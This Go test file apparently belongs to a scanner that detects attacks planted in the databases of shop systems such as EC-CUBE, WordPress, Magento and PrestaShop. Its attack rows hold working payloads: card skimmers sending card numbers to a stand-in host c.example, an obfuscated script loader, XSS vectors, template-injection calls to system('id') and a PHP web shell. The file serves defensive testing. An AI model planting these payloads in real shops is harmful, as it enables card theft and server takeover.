package database

import (
	"strings"
	"testing"

	"github.com/tillwatch/tillwatch"
)

// installed are small databases of shops that are known, as their own programs make them: the tables that tell them, and
// those that the test writes to.
var installed = []struct {
	shop   string
	only   []dialect // nil: every server
	schema []string
	rows   []string // of an honest shop
	attack []string // each followed by what must be found
	want   []string // "rule place-suffix"
}{
	{
		shop: "EC-CUBE 2",
		schema: []string{
			"CREATE TABLE dtb_baseinfo (id INTEGER PRIMARY KEY, shop_name VARCHAR(100), message VARCHAR(2000))", "CREATE TABLE dtb_pagelayout (device_type_id INTEGER, page_id INTEGER, page_name VARCHAR(100), url VARCHAR(200), filename VARCHAR(200), meta_robots VARCHAR(200), PRIMARY KEY (device_type_id, page_id))",
			"CREATE TABLE dtb_order (order_id INTEGER PRIMARY KEY, order_name01 VARCHAR(100), order_email VARCHAR(100), message VARCHAR(2000), update_date TIMESTAMP NULL)",
			"CREATE TABLE dtb_customer (customer_id INTEGER PRIMARY KEY, name01 VARCHAR(100), email VARCHAR(100), password VARCHAR(100), del_flg SMALLINT)", "CREATE TABLE dtb_review (review_id INTEGER PRIMARY KEY, reviewer_name VARCHAR(100), reviewer_url VARCHAR(200), comment VARCHAR(2000))",
			"CREATE TABLE dtb_payment (payment_id INTEGER PRIMARY KEY, payment_method VARCHAR(100), module_path VARCHAR(300), memo01 VARCHAR(200))", "CREATE TABLE dtb_csv_sql (sql_id INTEGER PRIMARY KEY, sql_name VARCHAR(100), csv_sql VARCHAR(2000))",
			"CREATE TABLE dtb_member (member_id INTEGER PRIMARY KEY, login_id VARCHAR(100), password VARCHAR(100), authority SMALLINT, work SMALLINT, del_flg SMALLINT)",
		},
		rows: []string{
			"INSERT INTO dtb_order VALUES (1, '＜株式会社＞ 山田', 'a@b.example', '置き配で (^_^)', NULL)", "INSERT INTO dtb_payment VALUES (1, 'クレジット', '/var/www/data/downloads/module/mdl_pay/card.php', 'shop-id')",
			"INSERT INTO dtb_csv_sql VALUES (1, '売上', 'SELECT order_id, order_name01 FROM dtb_order')", "INSERT INTO dtb_member VALUES (1, 'tanaka', 'Geheim', 0, 1, 0)",
		},
		attack: []string{
			"INSERT INTO dtb_order VALUES (2, '＜script src=//c.example＞', 'a@b.example', '', NULL)", "INSERT INTO dtb_review VALUES (3, 'x', 'javascript:alert(document.domain)', 'good')",
			"UPDATE dtb_payment SET module_path = '/var/www/html/upload/save_image/1.jpg' WHERE payment_id = 1", "UPDATE dtb_csv_sql SET csv_sql = 'SELECT 1 INTO OUTFILE ''/x''' WHERE sql_id = 1",
		},
		want: []string{ruleActive + " dtb_order[order_id=2].order_name01", ruleActive + " dtb_review[review_id=3].reviewer_url", ruleExecutable + " dtb_payment[payment_id=1].module_path", ruleExecutable + " dtb_csv_sql[sql_id=1].csv_sql"},
	},
	{
		shop: "EC-CUBE 4",
		schema: []string{
			"CREATE TABLE dtb_base_info (id INTEGER PRIMARY KEY, shop_name VARCHAR(100))", "CREATE TABLE dtb_layout (id INTEGER PRIMARY KEY, layout_name VARCHAR(100))", "CREATE TABLE dtb_page (id INTEGER PRIMARY KEY, page_name VARCHAR(100), url VARCHAR(200), file_name VARCHAR(200), meta_tags VARCHAR(4000))",
			"CREATE TABLE dtb_order (id INTEGER PRIMARY KEY, name01 VARCHAR(100), email VARCHAR(100), message VARCHAR(4000))", "CREATE TABLE dtb_customer (id INTEGER PRIMARY KEY, name01 VARCHAR(100), email VARCHAR(100), password VARCHAR(100))",
			"CREATE TABLE dtb_payment (id INTEGER PRIMARY KEY, payment_method VARCHAR(100), method_class VARCHAR(300))", "CREATE TABLE dtb_product (id INTEGER PRIMARY KEY, name VARCHAR(100), description_detail VARCHAR(4000), free_area TEXT)",
			"CREATE TABLE plg_extra_survey (id INTEGER PRIMARY KEY, answer_name VARCHAR(100), answer_email VARCHAR(100), answer_comment TEXT)",
		},
		rows: []string{
			"INSERT INTO dtb_order VALUES (1, '山田', 'a@b.example', 'O''Brien <3')", "INSERT INTO dtb_page VALUES (1, 'TOP', 'homepage', 'index', '<meta name=\"robots\" content=\"noindex\">')",
			"INSERT INTO dtb_product VALUES (1, '茶碗', '<p>丸い<b>茶碗</b></p>', '<iframe src=\"https://www.youtube.com/embed/x\"></iframe>')", "INSERT INTO dtb_payment VALUES (1, 'card', 'Eccube\\Service\\Payment\\Method\\CreditCard')",
		},
		attack: []string{
			"INSERT INTO dtb_order VALUES (2, 'x', 'a@b.example', '\"><img src=x onerror=\"$.getScript(''//c.example/x.js'')\">')", "INSERT INTO plg_extra_survey VALUES (9, 'x', 'y', '{{ [''id'']|filter(''system'') }}')",
			"INSERT INTO dtb_product VALUES (2, 'x', '', '<script>document.querySelector(\"#pay\").onclick=function(){navigator.sendBeacon(\"https://c.example/\",document.querySelector(\"#card_no\").value)}</script>')",
		},
		want: []string{ruleActive + " dtb_order[id=2].message", ruleActive + " plg_extra_survey[id=9].answer_comment", ruleExecutable + " dtb_product[id=2].free_area"},
	},
	{
		shop: "WordPress", only: []dialect{mysqlDialect},
		schema: []string{
			"CREATE TABLE abc_options (option_id BIGINT UNSIGNED PRIMARY KEY, option_name VARCHAR(191), option_value LONGTEXT)", "CREATE TABLE abc_posts (ID BIGINT UNSIGNED PRIMARY KEY, post_content LONGTEXT, post_title TEXT, post_excerpt TEXT, post_type VARCHAR(20), post_status VARCHAR(20), post_modified_gmt DATETIME)",
			"CREATE TABLE abc_postmeta (meta_id BIGINT UNSIGNED PRIMARY KEY, post_id BIGINT, meta_key VARCHAR(255), meta_value LONGTEXT)", "CREATE TABLE abc_term_taxonomy (term_taxonomy_id BIGINT PRIMARY KEY, taxonomy VARCHAR(32), description LONGTEXT)",
			"CREATE TABLE abc_users (ID BIGINT UNSIGNED PRIMARY KEY, user_login VARCHAR(60), user_pass VARCHAR(255), user_email VARCHAR(100), display_name VARCHAR(250))", "CREATE TABLE abc_usermeta (umeta_id BIGINT UNSIGNED PRIMARY KEY, user_id BIGINT UNSIGNED, meta_key VARCHAR(255), meta_value LONGTEXT)",
			"CREATE TABLE abc_comments (comment_ID BIGINT UNSIGNED PRIMARY KEY, comment_author TINYTEXT, comment_author_email VARCHAR(100), comment_content TEXT)", "CREATE TABLE abc_usces_order (ID BIGINT PRIMARY KEY, order_name1 VARCHAR(100), order_note TEXT)",
		},
		rows: []string{
			`INSERT INTO abc_options VALUES (1, 'active_plugins', 'a:1:{i:0;s:27:"woocommerce/woocommerce.php";}'), (2, 'widget_text', 'a:1:{s:4:"text";s:12:"<b>Hello</b>";}'), (3, '_transient_feed', '<script>x</script>')`,
			"INSERT INTO abc_users VALUES (1, 'tanaka', 'Geheim', 'Geheim@x.example', 'Tanaka')", `INSERT INTO abc_usermeta VALUES (1, 1, 'abc_capabilities', 'a:1:{s:13:"administrator";b:1;}')`,
			"INSERT INTO abc_posts VALUES (1, '<p>Hello</p>', 'Hello', '', 'page', 'publish', NOW())", "INSERT INTO abc_comments VALUES (1, 'Jo', 'x@y.example', '<a href=\"https://x.example\">nice</a> <3')",
		},
		attack: []string{
			`INSERT INTO abc_options VALUES (9, 'widget_custom_html', 'a:1:{s:7:"content";s:99:"<script>document.querySelector(\'#cc\').oninput=function(){new Image().src=\'//c.example/?\'+btoa(document.querySelector(\'#cc_number\').value)}</script>";}')`,
			"INSERT INTO abc_comments VALUES (2, 'x', 'y', '<a href=javascript:alert(1)>x</a>')", "INSERT INTO abc_usces_order VALUES (4, 'x', '<svg/onload=eval(atob(\"YWxlcnQoMSk=\"))>')", `INSERT INTO abc_postmeta VALUES (7, 5, '_billing_address_1', '"><script src=//c.example></script>')`,
		},
		want: []string{ruleExecutable + " abc_options[widget_custom_html].option_value", ruleActive + " abc_comments[comment_ID=2].comment_content", ruleActive + " abc_usces_order[ID=4].order_note", ruleActive + " abc_postmeta[meta_id=7].meta_value"},
	},
	{
		shop: "Magento 2", only: []dialect{mysqlDialect},
		schema: []string{
			"CREATE TABLE core_config_data (config_id INT UNSIGNED PRIMARY KEY, scope VARCHAR(8), scope_id INT, path VARCHAR(255), value TEXT)", "CREATE TABLE cms_block (block_id SMALLINT PRIMARY KEY, title VARCHAR(255), identifier VARCHAR(255), content MEDIUMTEXT)",
			"CREATE TABLE sales_order (entity_id INT UNSIGNED PRIMARY KEY, customer_email VARCHAR(128), customer_firstname VARCHAR(128), customer_note TEXT)", "CREATE TABLE setup_module (module VARCHAR(50) PRIMARY KEY, schema_version VARCHAR(50))",
			"CREATE TABLE customer_entity (entity_id INT UNSIGNED PRIMARY KEY, email VARCHAR(255), firstname VARCHAR(255), password_hash VARCHAR(128))", "CREATE TABLE admin_user (user_id INT UNSIGNED PRIMARY KEY, username VARCHAR(40), email VARCHAR(128), password VARCHAR(255), is_active SMALLINT)",
			"CREATE TABLE cms_block_cl (version_id INT PRIMARY KEY, entity_id INT)", "CREATE TRIGGER trg_cms_block_after_insert AFTER INSERT ON cms_block FOR EACH ROW INSERT IGNORE INTO `cms_block_cl` (`entity_id`) VALUES (NEW.`block_id`)",
		},
		rows: []string{
			"INSERT INTO core_config_data VALUES (1, 'default', 0, 'design/head/includes', '<link rel=\"stylesheet\" href=\"/styles.css\">'), (2, 'default', 0, 'web/unsecure/base_url', 'https://shop.example/'), (3, 'default', 0, 'payment/x/merchant_key', 'Geheim')",
			"INSERT INTO sales_order VALUES (1, 'a@b.example', 'Tom & Jerry', NULL)", "INSERT INTO admin_user VALUES (1, 'admin', 'Geheim@x.example', 'Geheim', 1)",
		},
		attack: []string{
			"UPDATE core_config_data SET value = '<script>(function(){var s=document.createElement(\"script\");s.src=atob(\"aHR0cHM6Ly9jLmV4YW1wbGUveC5qcw==\");document.head.appendChild(s)})()</script>' WHERE config_id = 1",
			"INSERT INTO sales_order VALUES (2, 'a@b.example', '{{var this.getTemplateFilter().filter(order)}}', NULL)", "INSERT INTO sales_order VALUES (3, 'a@b.example', '{{if this.getTemplateFilter().addAfterFilterCallback(system).Filter(id)}}1{{/if}}', NULL)",
		},
		want: []string{ruleExecutable + " core_config_data[config_id=1, design/head/includes].value", ruleActive + " sales_order[entity_id=2].customer_firstname", ruleActive + " sales_order[entity_id=3].customer_firstname"},
	},
	{
		shop: "OpenCart", only: []dialect{mysqlDialect},
		schema: []string{
			"CREATE TABLE oc_setting (setting_id INT PRIMARY KEY, store_id INT, code VARCHAR(128), `key` VARCHAR(128), value TEXT)", "CREATE TABLE oc_information_description (information_id INT, language_id INT, title VARCHAR(64), description MEDIUMTEXT, PRIMARY KEY (information_id, language_id))", "CREATE TABLE oc_layout_module (layout_module_id INT PRIMARY KEY, code VARCHAR(64))",
			"CREATE TABLE oc_order (order_id INT PRIMARY KEY, firstname VARCHAR(32), email VARCHAR(96), comment TEXT)", "CREATE TABLE oc_customer (customer_id INT PRIMARY KEY, firstname VARCHAR(32), email VARCHAR(96), password VARCHAR(255))", "CREATE TABLE oc_event (event_id INT PRIMARY KEY, code VARCHAR(128), `trigger` TEXT, action TEXT, status TINYINT)",
			"CREATE TABLE oc_user (user_id INT PRIMARY KEY, username VARCHAR(20), user_group_id INT, status TINYINT, password VARCHAR(255))",
		},
		rows: []string{
			"INSERT INTO oc_setting VALUES (1, 0, 'config', 'config_url', 'https://shop.example/'), (2, 0, 'config', 'config_meta_description', 'My &amp; Store')", "INSERT INTO oc_information_description VALUES (1, 1, 'About', '&lt;p&gt;About us&lt;/p&gt;')",
			"INSERT INTO oc_order VALUES (1, 'R&amp;D', 'a@b.example', 'fine')", "INSERT INTO oc_user VALUES (1, 'admin', 1, 1, 'Geheim')",
		},
		attack: []string{
			"INSERT INTO oc_order VALUES (2, 'x', 'a@b.example', '&lt;img src=x onerror=alert(1)&gt;')",
			"INSERT INTO oc_information_description VALUES (2, 1, 'x', '&lt;script&gt;document.forms[0].onsubmit=function(){navigator.sendBeacon(&quot;https://c.example/&quot;,document.querySelector(&quot;#card_number&quot;).value)}&lt;/script&gt;')",
		},
		want: []string{ruleActive + " oc_order[order_id=2].comment", ruleExecutable + " oc_information_description[information_id=2, language_id=1].description"},
	},
	{
		shop: "EverShop", only: []dialect{postgresDialect},
		schema: []string{
			"CREATE TABLE admin_user (admin_user_id INT PRIMARY KEY, uuid UUID, email VARCHAR, password VARCHAR, full_name VARCHAR, status BOOLEAN)", "CREATE TABLE cms_page_description (cms_page_description_id INT PRIMARY KEY, url_key VARCHAR, name VARCHAR, content JSONB)", "CREATE TABLE cart_address (cart_address_id INT PRIMARY KEY, full_name VARCHAR)",
			"CREATE TABLE order_address (order_address_id INT PRIMARY KEY, full_name VARCHAR, telephone VARCHAR)", "CREATE TABLE \"order\" (order_id INT PRIMARY KEY, customer_email VARCHAR, shipping_note TEXT)", "CREATE TABLE customer (customer_id INT PRIMARY KEY, email VARCHAR, password VARCHAR, full_name VARCHAR)",
			"CREATE TABLE widget (widget_id INT PRIMARY KEY, name VARCHAR, settings JSONB)",
		},
		rows: []string{
			`INSERT INTO widget VALUES (1, 'menu', '{"text":"<p>Hello</p>"}')`, `INSERT INTO "order" VALUES (1, 'a@b.example', 'leave it <here>')`, "INSERT INTO admin_user VALUES (1, gen_random_uuid(), 'Geheim@x.example', 'Geheim', 'Admin', true)",
		},
		attack: []string{
			`INSERT INTO widget VALUES (2, 'x', '[{"type":"raw","data":{"html":"<script>document.querySelector(\"#card\").onchange=function(){fetch(\"https://c.example/\",{method:\"POST\",body:document.querySelector(\"[name=card_number]\").value})}</script>"}}]')`,
			`INSERT INTO order_address VALUES (2, '<iframe srcdoc="<script>alert(1)</script>">', '1')`,
		},
		want: []string{ruleExecutable + " widget[widget_id=2].settings", ruleActive + " order_address[order_address_id=2].full_name"},
	},
	{
		shop: "PrestaShop", only: []dialect{mysqlDialect},
		schema: []string{
			"CREATE TABLE ps_hook_module (id_module INT, id_shop INT, id_hook INT, position TINYINT, PRIMARY KEY (id_module, id_hook, id_shop))", "CREATE TABLE ps_configuration_lang (id_configuration INT, id_lang INT, value TEXT, PRIMARY KEY (id_configuration, id_lang))", "CREATE TABLE ps_cart_rule (id_cart_rule INT PRIMARY KEY, code VARCHAR(254))",
			"CREATE TABLE ps_employee (id_employee INT PRIMARY KEY, id_profile INT, email VARCHAR(255), passwd VARCHAR(255), active TINYINT)", "CREATE TABLE ps_orders (id_order INT PRIMARY KEY, reference VARCHAR(9), gift_message TEXT)", "CREATE TABLE ps_customer (id_customer INT PRIMARY KEY, email VARCHAR(255), firstname VARCHAR(255), passwd VARCHAR(255))",
			"CREATE TABLE ps_smarty_cache (id_smarty_cache CHAR(40) PRIMARY KEY, name CHAR(40), content LONGTEXT)", "CREATE TABLE ps_customer_message (id_customer_message INT PRIMARY KEY, message MEDIUMTEXT)",
		},
		rows:   []string{"INSERT INTO ps_orders VALUES (1, 'ABC', 'Alles Gute <3')", "INSERT INTO ps_employee VALUES (1, 1, 'Geheim@x.example', 'Geheim', 1)"},
		attack: []string{"INSERT INTO ps_smarty_cache VALUES ('abc', 'x', '<?php eval(base64_decode($_POST[1])); ?>')", "INSERT INTO ps_customer_message VALUES (5, '{system(''id'')}')"},
		want:   []string{ruleExecutable + " ps_smarty_cache[id_smarty_cache=abc].content", ruleActive + " ps_customer_message[id_customer_message=5].message"},
	},
	{
		shop: "Zen Cart", only: []dialect{mysqlDialect},
		schema: []string{
			"CREATE TABLE zen_configuration_group (configuration_group_id INT PRIMARY KEY)", "CREATE TABLE zen_layout_boxes (layout_id INT PRIMARY KEY, layout_template VARCHAR(64), layout_box_name VARCHAR(64), layout_box_status TINYINT)", "CREATE TABLE zen_orders_status_history (orders_status_history_id INT PRIMARY KEY, comments TEXT)", "CREATE TABLE zen_address_book (address_book_id INT PRIMARY KEY, entry_firstname VARCHAR(32))",
			"CREATE TABLE zen_configuration (configuration_id INT PRIMARY KEY, configuration_key VARCHAR(180), configuration_value TEXT, use_function TEXT, set_function TEXT)", "CREATE TABLE zen_orders (orders_id INT PRIMARY KEY, customers_name VARCHAR(64))", "CREATE TABLE zen_customers (customers_id INT PRIMARY KEY, customers_firstname VARCHAR(32))", "CREATE TABLE zen_admin (admin_id INT PRIMARY KEY, admin_name VARCHAR(32), admin_profile INT, admin_pass VARCHAR(255))",
		},
		rows:   []string{"INSERT INTO zen_configuration VALUES (1, 'STORE_NAME', 'My <b>Store</b>', NULL, 'zen_cfg_select_option(array(''true'', ''false''),'), (2, 'MODULE_PAYMENT_INSTALLED', 'cod.php', NULL, NULL)", "INSERT INTO zen_admin VALUES (1, 'Admin', 1, 'Geheim')"},
		attack: []string{"INSERT INTO zen_configuration VALUES (3, 'X', 'y', 'system(''id'');', NULL)", "INSERT INTO zen_orders_status_history VALUES (8, '%3Cscript%20src%3D//c.example%3E')"},
		want:   []string{ruleExecutable + " zen_configuration[X].use_function", ruleActive + " zen_orders_status_history[orders_status_history_id=8].comments"},
	},
}

func TestShopsThatAreKnown(t *testing.T) {
	t.Parallel()
	for _, c := range installed {
		dialects := c.only
		if dialects == nil {
			dialects = []dialect{mysqlDialect, postgresDialect}
		}
		for _, dialect := range dialects {
			t.Run(c.shop+" "+string(dialect), func(t *testing.T) {
				t.Parallel()
				d := newDatabase(t, dialect)
				d.exec(c.schema...)
				rows, attack := c.rows, c.attack
				if dialect == mysqlDialect { // there a backslash in a text is an escape
					rows, attack = nil, nil
					for _, s := range c.rows {
						rows = append(rows, strings.ReplaceAll(s, `Eccube\Service\Payment\Method\C`, `Eccube\\Service\\Payment\\Method\\C`))
					}
					attack = c.attack
				}
				d.exec(rows...)
				s := d.look(Config{})
				recognised := ""
				for _, item := range s.items {
					if item.Kind == "database" {
						recognised = item.Value
					}
				}
				if recognised != c.shop {
					t.Fatalf("recognised %q", recognised)
				}
				for _, sign := range s.signs {
					t.Errorf("the honest shop: %s %s at %s: %s", sign.Severity, sign.Rule, sign.Place, sign.Summary)
				}
				if len(s.gaps) > 0 {
					t.Errorf("%+v", s.gaps)
				}
				d.exec(attack...)
				s = d.look(Config{})
				for _, want := range c.want {
					rule, place, _ := strings.Cut(want, " ")
					found := false
					for _, sign := range s.signs {
						found = found || sign.Rule == rule && sign.Place == d.place+" "+place && sign.Severity >= tillwatch.Medium
					}
					if !found {
						t.Errorf("%s was not found: %+v", want, s.signs)
					}
				}
				if len(s.signs) != len(c.want) {
					t.Errorf("%d signs, want %d: %+v", len(s.signs), len(c.want), s.signs)
				}
			})
		}
	}
}
